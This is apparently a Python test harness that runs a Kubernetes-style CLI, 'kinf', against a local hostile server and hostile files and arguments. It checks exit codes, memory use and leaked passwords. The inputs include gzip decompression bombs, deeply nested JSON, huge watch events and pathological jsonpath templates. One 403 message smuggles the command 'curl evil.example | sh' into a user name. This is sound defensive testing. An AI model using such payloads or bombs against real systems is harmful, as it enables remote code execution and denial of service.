# SPDX-License-Identifier: Apache-2.0
"""Attacks kinf with hostile servers, files and arguments, and prints a table: finding, input, peak
memory, time, exit code, message. An attack fails if kinf takes too long or too much memory, ends with
another exit code, or does not say what is wrong.

  attack.py PROGRAM [--any-memory] [WORD...]   only the attacks whose line contains a WORD

With --any-memory, for sanitizers, it leaves out the attacks that are about memory: they take minutes.
"""
import argparse
import concurrent.futures
import dataclasses
import json
import os
import pathlib
import re
import subprocess
import sys
import tempfile
import time
import typing
import zlib

from hostile_server import LISTS, RESOURCE, Server, config_map, config_maps

GET = ("get", "cm", "--server", "URL")
WATCH = ("watch", "cm", "--server", "URL")
PASSWORD = "hunter2"
SLOW = 10  # a busy machine, or one with sanitizers, may take this much longer
ORDINARY_MEMORY = 64  # MiB


@dataclasses.dataclass
class Attack:
    finding: str
    what: str
    arguments: typing.Sequence[str]
    says: str = ""  # a pattern in what kinf prints
    code: int = 1
    answers: dict = dataclasses.field(default_factory=dict)
    memory: int = ORDINARY_MEMORY  # MiB
    seconds: float = 5
    files: dict = dataclasses.field(default_factory=dict)
    variables: dict = dataclasses.field(default_factory=dict)
    fifos: typing.Sequence[str] = ()
    never: str = PASSWORD  # a text that kinf must not print


def status(code, reason, message, **more):
    return json.dumps({"kind": "Status", "status": "Failure", "code": code, "reason": reason,
                       "message": message, **more})


def answered(*body, **headers):
    return lambda request: request.answer(*body, **headers)


def events(*lines):
    """Answers a watch with events, the first time."""
    def answer(request):
        request.begin()
        if not getattr(request.server, "has_sent", False):
            request.server.has_sent = True
            for line in lines:
                request.chunk(line)
        request.wait()
    return answer


def bomb(unit, size):
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    block = unit * ((1 << 20) // len(unit))
    packed = b"".join(packer.compress(block) for _ in range(size // len(block)))
    return packed + packer.flush()


def table(columns, cells, rows):
    return json.dumps({
        "kind": "Table", "apiVersion": "meta.k8s.io/v1", "metadata": {"resourceVersion": "1"},
        "columnDefinitions": [{"name": f"C{i}", "type": "string", "format": "", "priority": 0}
                              for i in range(columns)],
        "rows": [{"cells": cells(row), "object": json.loads(config_map(f"n{row}"))}
                 for row in range(rows)]})


def kubeconfig(cluster=None, user=None):
    return json.dumps({
        "apiVersion": "v1", "kind": "Config", "current-context": "x",
        "clusters": [{"name": "c", "cluster": {"server": "http://127.0.0.1:1", **(cluster or {})}}],
        "users": [{"name": "u", "user": user or {}}],
        "contexts": [{"name": "x", "context": {"cluster": "c", "user": "u"}}]})


def lists():
    """Attacks on lists, discovery and what is printed of them."""
    soon = ("--sync-timeout", "2s")
    yield Attack("A1", "the continue token stays the same", (*GET, *soon), "continue token", 124,
                 {LISTS: answered(config_maps([config_map()], "t"))})
    yield Attack("A1", "pages without end", (*GET, *soon), "no initial list", 124,
                 {LISTS: lambda r: r.answer(config_maps([], f"t{r.server.requests}"))})
    yield Attack("A2", "discovery is silent", (*GET, *soon), "in time", 124,
                 {"/api/v1": lambda r: r.wait()})
    for unit in (b"{},", b"["):
        yield Attack("A3", f"discovery inflates to 400 MB of {unit.decode()}", GET, "64 MiB", 1,
                     {"/api/v1": answered(bomb(unit, 400 << 20), Content_Encoding="gzip")},
                     memory=150)
    types = [{**RESOURCE, "name": f"things{i:06}", "singularName": f"thing{i:06}",
              "kind": f"Thing{i:06}", "shortNames": [f"th{i}"]} for i in range(100000)]
    many = answered(json.dumps({"kind": "APIResourceList", "groupVersion": "v1",
                                "resources": [RESOURCE, *types]}))
    yield Attack("A4", "100,000 types", GET, "NAME", 0, {"/api/v1": many}, memory=200)
    yield Attack("A4", "100,000 types, mistyped", ("get", "configmpas", "--server", "URL"),
                 "did you mean configmaps", 2, {"/api/v1": many}, memory=200)
    damaged = config_map(more=',"data":{"n":007}')
    for finding, what, item in (
            ("A5", "a number that is not JSON", damaged),
            ("A31", "an object 600 deep",
             config_map(more=',"data":' + '{"a":' * 600 + "1" + "}" * 600))):
        yield Attack(finding, what, (*GET, "-o", "json"), r"\ba\b", 1,
                     {LISTS: answered(config_maps([item]))})
    for rest in ("x", '"abc', "{", "}}", "<html>", '{"a":1}', "\0"):
        yield Attack("A6", f"after the list: {rest!r}", (*GET, *soon), "failed to list", 124,
                     {LISTS: answered(config_maps([config_map()]) + rest)})
    for code in (201, 202, 203, 205, 206, 299):
        yield Attack("A6", f"a list with the status {code}", (*GET, *soon), f"status {code}", 124,
                     {LISTS: answered(config_maps([config_map()]), code)})
    yield Attack("A8", "20,000 columns", GET, "C199", 0,
                 {LISTS: answered(table(20000, lambda _: ["x"] * 20000, 2))})
    yield Attack("A8", "a cell of 1 MB in a table of 500 rows", GET, "n499", 0,
                 {LISTS: answered(table(3, lambda row: [f"n{row}", "w" * (1 << 20) if row == 0
                                                        else "x", "e"], 500))})
    forbidden = 'configmaps is forbidden: User "x; curl evil.example | sh #" cannot list'
    yield Attack("A28", "a user name in a 403 that a shell would run", GET,
                 "--as 'x; curl evil.example | sh #'", 5,
                 {LISTS: answered(status(403, "Forbidden", forbidden), 403)})
    for date in ("9999-12-31T23:59:59Z", "1600-01-01T00:00:00Z", "0001-01-01T00:00:00Z"):
        item = config_map().replace('"uid"', f'"creationTimestamp":"{date}","uid"')
        yield Attack("A27", f"created at {date}", GET,
                     "<invalid>" if date.startswith("9") else "292y", 0,
                     {LISTS: answered(config_maps([item]))})


def watches():
    """Attacks on watches and on the time that kinf waits."""
    soon = ("--timeout", "3s", "-o", "name")
    small = "".join(f'{{"type":"ADDED","object":{{"metadata":{{"name":"n{i}"}}}}}}\n'
                    for i in range(200000))
    yield Attack("A9", "200,000 events of 60 bytes",
                 (*WATCH, "-o", "name", "--max-events", "200001"), "n199999", 0,
                 {"watch": events(small)}, memory=200, seconds=40)
    huge = config_map(version="5", more=',"data":{"x":"' + "y" * 70_000_000 + '"}')
    yield Attack("A9", "an event of 70 MB", (*WATCH, *soon), "larger than", 124,
                 {"watch": events(f'{{"type":"MODIFIED","object":{huge}}}\n')}, memory=250)
    long = status(500, "InternalError", "z" * 30_000_000)
    yield Attack("A9", "an error event of 30 MB", (*WATCH, *soon), "z…", 124,
                 {"watch": events(f'{{"type":"ERROR","object":{long}}}\n')}, memory=200)
    yield Attack("A9", "an error of 30 MB", (*GET, "--sync-timeout", "2s"), "zzz", 124,
                 {LISTS: answered(long, 500)})
    for seconds in ("4000000000", "99999999999999999999"):
        yield Attack("A10", f"Retry-After: {seconds}", (*GET, "--sync-timeout", "2s"),
                     "retrying in 5m", 124,
                     {LISTS: answered(status(429, "TooManyRequests", "no"), 429,
                                      Retry_After=seconds)})


def arguments():
    """Attacks with arguments and configuration files."""
    for template in ("{range .items[*]}" * 4000, "{" * 20000,
                     "{.a[?(" + "(" * 20000 + "@.a" + ")" * 20000 + ")]}",
                     "{.a" + "[?(@.a" * 9000 + ")]" * 9000 + "}",
                     "{.a[?(" + "!" * 20000 + "@.a)]}"):
        yield Attack("A14", f"jsonpath {template[:20]}… of {len(template)} bytes",
                     (*GET, "-o", "jsonpath=" + template), "jsonpath", -1, seconds=15)
    for url in ("https://u:P@[bad", "u:P@h:1:2", "https://u:P@h:999999", "ftp://u:P@h/",
                "https://u:P%zz@h/", "//u:P@h", "http://u:P@127.0.0.1:1", "https://u:P/x@h:1",
                "http://u:P@x@[bad"):
        secret = url.replace("P", PASSWORD)
        yield Attack("A15", f"--server {url}", ("get", "cm", "--server", secret), "error", -1)
        yield Attack("A15", f"proxy-url {url}", ("get", "cm"), "error", -1,
                     files={".kube/config": kubeconfig({"proxy-url": secret})})
        yield Attack("A15", f"http_proxy={url}", ("get", "cm", "--server", "http://10.255.255.1:1", "--sync-timeout", "2s"),
                     "error", -1, variables={"http_proxy": secret})
    home = ".kube/config"
    yield Attack("A11", "the kubeconfig is a pipe", ("get", "cm"), "a pipe", 1, fifos=[home],
                 seconds=13)
    for field in ("certificate-authority", "client-certificate", "client-key", "tokenFile"):
        where = {"cluster": {field: "pipe"}} if field.endswith("authority") else {
            "user": {"client-certificate": "config", "client-key": "config", field: "pipe"}
            if field.startswith("client") else {field: "pipe"},
            "cluster": {"server": "https://127.0.0.1:1"}}  # credentials are only for TLS
        yield Attack("A11", f"{field} is a pipe", ("get", "cm"), "pipe", -1,
                     files={home: kubeconfig(**where)}, fifos=[".kube/pipe"], seconds=13)
    for command in (("get", "pods", "--sandbox"), ("--help",), ("version",),
                    ("completion", "bash")):
        yield Attack("A12", f"{' '.join(command)} >/dev/full", command, "No space left", 1)
    yield Attack("A30", "sandbox --scenario churn with 9,999,999 changes",
                 ("watch", "pods", "--sandbox=churn:changes=9999999", "--max-events", "20"),
                 "churn", -1)


class Outcome(typing.NamedTuple):
    code: int
    memory: int
    seconds: float
    text: str


def peak_memory(pid):
    """Returns the peak resident memory in MiB, 0 if the process has ended."""
    try:
        text = pathlib.Path(f"/proc/{pid}/status").read_text(encoding="ascii", errors="replace")
    except OSError:
        return 0
    found = re.search(r"^VmHWM:\s+(\d+)", text, re.M)
    return int(found[1]) // 1024 if found else 0


def prepare(folder, attack):
    for name, text in attack.files.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
    for name in attack.fifos:
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        os.mkfifo(path)


def run(program, attack):
    with tempfile.TemporaryDirectory(prefix="kinf-attack.") as name, \
            Server(attack.answers) as server:
        folder = pathlib.Path(name)
        prepare(folder, attack)
        printed = folder / "printed"
        full = "/dev/full" in attack.what
        with printed.open("wb") as both, open("/dev/full", "wb") as device:
            start = time.monotonic()
            child = subprocess.Popen(
                [program, *(word.replace("URL", server.url) for word in attack.arguments)],
                cwd=folder, stdin=subprocess.DEVNULL, stdout=device if full else both, stderr=both,
                env={"HOME": name, "TMPDIR": name, "PATH": os.environ["PATH"], "LC_ALL": "C.UTF-8",
                     **attack.variables})
            memory = 0
            while child.poll() is None and time.monotonic() < start + attack.seconds * SLOW:
                memory = max(memory, peak_memory(child.pid))
                time.sleep(0.005)
            seconds = time.monotonic() - start
            if child.poll() is None:
                child.kill()
                child.wait()
        text = printed.read_text(encoding="utf-8", errors="replace")
    return Outcome(child.returncode, memory, seconds, text)


def problems(attack, outcome, any_memory):
    """Returns what is wrong with the outcome."""
    if outcome.code < 0:
        yield f"ended by signal {-outcome.code}"
    elif attack.code >= 0 and outcome.code != attack.code:
        yield f"exit code {outcome.code}, expected {attack.code}"
    if not re.search(attack.says, outcome.text):
        yield f"does not say {attack.says!r}"
    if attack.never in outcome.text:
        yield f"prints {attack.never!r}"
    if not any_memory and outcome.memory > attack.memory:
        yield f"{outcome.memory} MiB, more than {attack.memory}"
    if len(outcome.text) > 8_000_000:
        yield f"prints {len(outcome.text)} bytes"


def message(text):
    """Returns the line of the error, shortened; otherwise the last line."""
    lines = [line for line in text.split("\n") if line.strip()] or [""]
    chosen = next((line for line in lines if "rror" in line), lines[-1])
    return "".join(c if c.isprintable() else "?" for c in chosen)[:90]


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("program")
    parser.add_argument("words", nargs="*")
    parser.add_argument("--any-memory", action="store_true", help="with sanitizers")
    options = parser.parse_args()
    program = str(pathlib.Path(options.program).resolve())
    attacks = [one for one in (*lists(), *watches(), *arguments())
               if not options.words or any(word in f"{one.finding} {one.what}"
                                           for word in options.words)]
    if options.any_memory:
        attacks = [one for one in attacks if one.memory == ORDINARY_MEMORY]
    attacks.sort(key=lambda one: int(one.finding[1:]))
    failed = 0
    with concurrent.futures.ThreadPoolExecutor(max_workers=4) as pool:
        for attack, outcome in zip(attacks, pool.map(lambda one: run(program, one), attacks)):
            wrong = list(problems(attack, outcome, options.any_memory))
            failed += bool(wrong)
            print(f"{attack.finding:4} {attack.what[:56]:56} {outcome.memory:4} MiB "
                  f"{outcome.seconds:5.1f} s  {outcome.code:3}  {message(outcome.text)}")
            for problem in wrong:
                print(f"     WRONG: {problem}")
    print(f"{len(attacks)} attacks, {failed} failed")
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
